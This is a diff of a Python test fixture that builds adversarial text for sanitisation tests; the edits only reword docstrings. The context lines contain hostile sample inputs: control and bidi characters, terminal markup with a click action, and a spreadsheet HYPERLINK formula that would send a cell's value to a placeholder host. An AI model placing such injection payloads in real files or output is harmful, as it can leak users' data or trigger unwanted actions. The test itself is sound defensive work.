@@ -1,4 +1,4 @@
-"""A small case in which every text from outside is meant to do harm."""
+"""A small case in which every text from outside is an attack."""
 
 from collections.abc import Iterable, Iterator
 from pathlib import Path
@@ -48,7 +48,7 @@ MARKUP = "[/] [bold]we [the army] [@click=app.bell]fired[/] [link=x]"
 HARM = C0 + C1 + BIDI + SEPARATORS + SEQUENCES + MARKUP
 
 NEVER_RAW = frozenset((C0 + C1 + BIDI + SEPARATORS).replace("\n", "").replace("\t", ""))
-"""What no output may hold; LF and TAB are what text is laid out with."""
+"""The characters that no output may contain; LF and TAB are used for layout."""
 
 FORMULA = '=HYPERLINK("http://x.example?"&A1;"click")'
 TEXT = f"First line.\n\tHama fell, {HARM} they said.\n@SUM(1) حماة 哈馬 e\u0301 end."
@@ -206,6 +206,6 @@ def _claims() -> Iterable[Claim]:
 
 
 def hostile_case(path: Path) -> Path:
-    """The case, written to `path`."""
+    """Write the case to `path`."""
     write_case(path, hostile_records())
     return path
